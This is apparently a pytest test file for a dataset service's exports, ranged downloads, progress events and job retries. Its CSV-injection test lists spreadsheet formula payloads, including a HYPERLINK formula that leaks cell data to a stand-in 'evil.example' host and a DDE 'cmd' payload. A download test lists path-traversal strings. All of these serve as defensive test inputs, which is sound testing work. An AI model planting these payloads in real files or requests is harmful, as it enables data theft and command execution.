"""Exports and downloads: every format has the same rows; ranges, links and events work."""

import csv
import io
import json
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
import requests

from shardline.gateway.export_formats import ParquetExport, escaped_cell, open_export
from shardline.gateway.problems import Problem
from shardline_common.dataset.verify import Verifier
from shardline_common.job.names import Layout
from shardline_common.storage.directory import DirectoryStore
from tests.gateway.system import SECONDS, Server, body, ended
from tests.make import job


@pytest.fixture(scope="module")
def dataset(gateway: Server) -> str:
    """A completed dataset."""
    made = requests.post(
        f"{gateway.url}/api/datasets", json=body(name="Export", top_k=500), timeout=SECONDS
    ).json()
    found: str = made["dataset_id"]
    assert ended(gateway.url, found)["status"] == "completed"
    return found


@pytest.fixture(scope="module")
def rows(gateway: Server, dataset: str) -> list[dict[str, Any]]:
    """The rows of the dataset, read from the shards in the store."""
    folder = gateway.folder / "store" / "export" / dataset / "data"
    shards = sorted(folder.rglob("*.jsonl"))
    return [json.loads(line) for shard in shards for line in shard.read_text("utf-8").split("\n") if line]


def exported(gateway: Server, dataset: str, name: str, **options: Any) -> bytes:
    """Make an export and download it by its link."""
    url = f"{gateway.url}/api/datasets/{dataset}/export"
    made = requests.post(url, json={"format": name} | options, timeout=SECONDS)
    assert made.status_code == 200, made.text
    response = requests.get(gateway.url + made.json()["download_url"], timeout=SECONDS)
    assert response.status_code == 200
    # A second call returns the same file.
    again = requests.post(url, json={"format": name} | options, timeout=SECONDS).json()
    assert again["export_path"] == made.json()["export_path"]
    return response.content


def test_a_jsonl_export_has_the_rows_of_the_shards(
    gateway: Server, dataset: str, rows: list[dict[str, Any]]
) -> None:
    lines = exported(gateway, dataset, "jsonl").decode().split("\n")
    assert [json.loads(line) for line in lines if line] == rows
    bare = exported(gateway, dataset, "jsonl", include_metadata=False).decode().splitlines()
    assert all("metadata" not in json.loads(line) for line in bare)
    assert len(bare) == len(rows)


def test_a_json_export_is_one_object(gateway: Server, dataset: str, rows: list[dict[str, Any]]) -> None:
    found = json.loads(exported(gateway, dataset, "json"))
    assert found["documents"] == rows
    assert (found["dataset_id"], found["name"]) == (dataset, "Export")


def test_a_csv_export_is_a_table(gateway: Server, dataset: str, rows: list[dict[str, Any]]) -> None:
    text = exported(gateway, dataset, "csv").decode()
    found = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["document_id"] for row in found] == [row["document_id"] for row in rows]
    assert [row["text"] for row in found] == [row["text"] for row in rows]
    assert [row["metadata.title"] for row in found] == [row["metadata"]["title"] or "" for row in rows]


_MANIFEST = {"schema": {"columns": ["title"]}}


def as_csv(path: Path, rows: list[dict[str, Any]], **options: Any) -> list[dict[str, str]]:
    """Write rows as a CSV export and read the table back."""
    writer = open_export("csv", path, _MANIFEST, metadata=True, **options)
    writer.add([json.dumps(row).encode() + b"\n" for row in rows])
    writer.close()
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?x="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1",
        "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\x00=1", "\uff1d1", "\uff0b1",
        "\uff0d1", "\uff201", "\tplain", "=", "-",
    ],
)  # fmt: skip
def test_a_csv_export_has_no_formula(tmp_path: Path, text: str) -> None:
    row = {
        "document_id": text, "text": text, "source": text, "quality_score": 0.5, "relevance_score": -1.5,
        "metadata": {"title": text, "extra": text},
    }  # fmt: skip
    (found,) = as_csv(tmp_path / "x.csv", [row])
    assert found["text"] == "'" + text
    assert all(cell.startswith("'") for name, cell in found.items() if not name.endswith("_score"))
    # A number is no formula.
    assert found["relevance_score"] == "-1.5"
    (raw,) = as_csv(tmp_path / "raw.csv", [row], escape=False)
    assert raw["text"] == text


@pytest.mark.parametrize("value", ["", "a=b", "1-2", "'quoted", "§ 5", "Ä", "   ", None, -3, -0.5, True])
def test_other_cells_stay_as_they_are(value: object) -> None:
    assert escaped_cell(value) == value


def test_an_escaped_csv_is_another_file_than_one_without_escapes(gateway: Server, dataset: str) -> None:
    # An earlier version may have made the latter.
    url = f"{gateway.url}/api/datasets/{dataset}/export"
    paths = [
        requests.post(url, json={"format": "csv"} | options, timeout=SECONDS).json()["export_path"]
        for options in ({}, {"escape_formulas": False}, {"include_metadata": False})
    ]
    assert len(set(paths)) == 3
    assert all(path.endswith(".csv") for path in paths)
    assert paths[1].endswith("/export.csv")


def test_a_parquet_export_has_the_schema_of_the_dataset(
    gateway: Server, dataset: str, rows: list[dict[str, Any]], tmp_path: Path
) -> None:
    path = tmp_path / "export.parquet"
    path.write_bytes(exported(gateway, dataset, "parquet"))
    table = pq.read_table(path)
    assert table.to_pylist() == rows
    assert str(table.schema.field("quality_score").type) == "double"


def test_parquet_without_its_library_says_what_to_install(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(Problem) as refused:
        ParquetExport(tmp_path / "x.parquet", [], metadata=True)
    assert refused.value.status_code == 501
    assert "extra `parquet`" in refused.value.detail


def test_files_are_listed_and_downloaded_whole_or_by_range(gateway: Server, dataset: str) -> None:
    url = f"{gateway.url}/api/datasets/{dataset}/files"
    files = requests.get(url, timeout=SECONDS).json()["files"]
    names = [one["file"] for one in files]
    assert "manifest.json" in names
    shard = next(one for one in files if one["file"].startswith("data/train/"))
    whole = requests.get(gateway.url + shard["download_url"], timeout=SECONDS)
    assert whole.headers["Accept-Ranges"] == "bytes"
    content = whole.content
    assert int(whole.headers["Content-Length"]) == len(content)
    link = f"{url}/{shard['file']}"
    for asked, expected in (
        ("bytes=0-99", content[:100]),
        ("bytes=100-", content[100:]),
        ("bytes=-50", content[-50:]),
        (f"bytes=10-{len(content) * 2}", content[10:]),
    ):
        part = requests.get(link, headers={"Range": asked}, timeout=SECONDS)
        assert part.status_code == 206
        assert part.content == expected
        start = int(part.headers["Content-Range"].split()[1].split("-")[0])
        assert content[start : start + len(expected)] == expected
    behind = requests.get(link, headers={"Range": f"bytes={len(content)}-"}, timeout=SECONDS)
    assert behind.status_code == 416
    assert behind.headers["Content-Range"] == f"bytes */{len(content)}"
    for ignored in ("bytes=0-1,5-6", "lines=1-2", "bytes=9-3"):
        assert requests.get(link, headers={"Range": ignored}, timeout=SECONDS).status_code == 200
    tag = whole.headers["ETag"]
    same = requests.get(link, headers={"Range": "bytes=0-0", "If-Range": tag}, timeout=SECONDS)
    assert (same.status_code, same.content) == (206, content[:1])
    other = requests.get(link, headers={"Range": "bytes=0-0", "If-Range": '"other"'}, timeout=SECONDS)
    assert other.status_code == 200


@pytest.mark.parametrize(
    "path",
    ["../../audit.jsonl", "..%2f..%2faudit.jsonl", "_state/plan.json", "data/../manifest.json", "%00", ""],
)
def test_only_listed_files_can_be_downloaded(gateway: Server, dataset: str, path: str) -> None:
    session = requests.Session()
    prepared = requests.Request("GET", f"{gateway.url}/").prepare()
    prepared.url = f"{gateway.url}/api/datasets/{dataset}/files/{path}"
    assert session.send(prepared, timeout=SECONDS).status_code == 404


async def test_verify_passes_beside_exports(gateway: Server, dataset: str) -> None:
    exported(gateway, dataset, "csv")
    spec = job(job_id=dataset, name="Export")
    report = await Verifier(DirectoryStore(gateway.folder / "store"), Layout.of(spec).root).run()
    assert report.problems == []


def test_events_report_progress_until_the_job_ends(gateway: Server) -> None:
    made = requests.post(f"{gateway.url}/api/datasets", json=body("slow", top_k=60), timeout=SECONDS).json()
    url = f"{gateway.url}/api/datasets/{made['dataset_id']}/events"
    response = requests.get(url, stream=True, timeout=SECONDS)
    assert response.headers["Content-Type"].startswith("text/event-stream")
    lines = response.content.decode().split("\n")
    progress = [json.loads(line.removeprefix("data: ")) for line in lines if line.startswith("data: ")]
    assert lines[-3] == "data: {}"
    assert lines[-4] == "event: end"
    assert progress[-2]["state"] == "completed"
    assert progress[-2]["source_documents"] == 60
    assert requests.get(f"{gateway.url}/api/datasets/none/events", timeout=SECONDS).status_code == 404


def test_cancel_then_retry(gateway: Server) -> None:
    made = requests.post(f"{gateway.url}/api/datasets", json=body("held", top_k=100), timeout=SECONDS).json()
    url = f"{gateway.url}/api/datasets/{made['dataset_id']}"
    early = requests.post(f"{url}/retry", timeout=SECONDS)
    assert early.status_code == 409
    requests.post(f"{url}/cancel", timeout=SECONDS).raise_for_status()
    assert ended(gateway.url, made["dataset_id"])["state"] == "cancelled"
    assert requests.post(f"{url}/cancel", timeout=SECONDS).status_code == 409
    (gateway.folder / made["dataset_id"]).touch()
    requests.post(f"{url}/retry", timeout=SECONDS).raise_for_status()
    first = requests.get(f"{url}/status", timeout=SECONDS).json()
    assert first["job_id"] == made["dataset_id"]
    # The second attempt runs or has ended: the events end when it has ended.
    while requests.get(f"{url}/status", timeout=SECONDS).json()["attempt"] == 1:
        requests.get(f"{url}/events", timeout=SECONDS)
    data = ended(gateway.url, made["dataset_id"])
    assert data["state"] == "completed"
    # A new attempt keeps the owner and the time.
    assert (data["owner"], data["created_at"]) == ("debug-user", made["data"]["created_at"])


def test_a_dataset_keeps_its_time_and_its_owner(gateway: Server) -> None:
    url = f"{gateway.url}/api/datasets"
    made = requests.post(url, json=body("held", top_k=100), timeout=SECONDS).json()["data"]
    # Clara's desktop list takes the first 19 characters, also before a producer has accepted the job.
    assert made["created_at"][:19] <= datetime.now(UTC).isoformat()[:19]
    listed = requests.get(url, headers={"User-Agent": "Clara-Frontend/2.0"}, timeout=SECONDS).json()
    assert all(one["created_at"] for one in listed["datasets"].values())
    (gateway.folder / made["dataset_id"]).touch()
    data = ended(gateway.url, made["dataset_id"])
    assert (data["created_at"], data["owner"]) == (made["created_at"], "debug-user")
    path = gateway.folder / "store" / "_jobs" / f"{made['dataset_id']}.json"
    record = json.loads(path.read_text())
    assert (record["owner"], record["submitted_at"]) == ("debug-user", made["created_at"])
    assert "owner" not in record["spec"]
